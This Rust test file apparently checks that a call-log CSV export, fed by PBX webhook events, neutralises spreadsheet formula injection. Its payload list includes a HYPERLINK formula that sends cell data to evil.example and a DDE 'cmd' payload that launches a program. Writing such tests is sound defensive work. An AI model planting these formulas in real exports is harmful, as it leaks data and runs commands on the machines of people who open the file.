//! What callers and PBXes send must not run in the spreadsheet of whoever opens the export.

use crate::harness::spawn;

const CELLS: [&str; 14] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "\"=1+1",
    "Alice;=1+1",
    "Alice\n=1+1",
    "\u{ff1d}1+1",
    "a,=1+1",
];

#[actix_web::test]
async fn no_cell_of_the_export_is_a_formula() {
    let app = spawn();
    for (n, cell) in CELLS.iter().enumerate() {
        let text = format!("{cell}{n}");
        let id = format!("{cell}#{n}");
        let fields = [
            ("event", "newCall"),
            ("direction", "in"),
            ("callId", id.as_str()),
            ("from", "+4930123456"),
            ("to", &text),
            ("queue", &text),
            ("user[]", &text),
        ];
        app.post_form(&fields).await.is(200);
        let end = [("event", "hangup"), ("direction", "in"), ("callId", &id), ("cause", &text)];
        app.post_form(&end).await.is(200);
    }
    let sheet = app.agent.get("/api/v1/calls.csv").await.is(200).body;
    let mut rows = 0;
    for separator in [b',', b';', b'\t'] {
        // whatever a spreadsheet takes for the separator
        let mut reader =
            csv::ReaderBuilder::new().delimiter(separator).flexible(true).from_reader(sheet.as_bytes());
        for row in reader.records() {
            let row = row.unwrap();
            rows += usize::from(separator == b',');
            for cell in row.iter() {
                let number =
                    cell.strip_prefix('+').is_some_and(|rest| rest.bytes().all(|b| b.is_ascii_digit()));
                let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}']) && !number;
                assert!(!formula, "{separator:?}: {cell:?}");
            }
        }
    }
    assert_eq!(rows, CELLS.len(), "{sheet}");
    assert!(sheet.contains("+4930123456"), "a number stays a number: {sheet}");
}
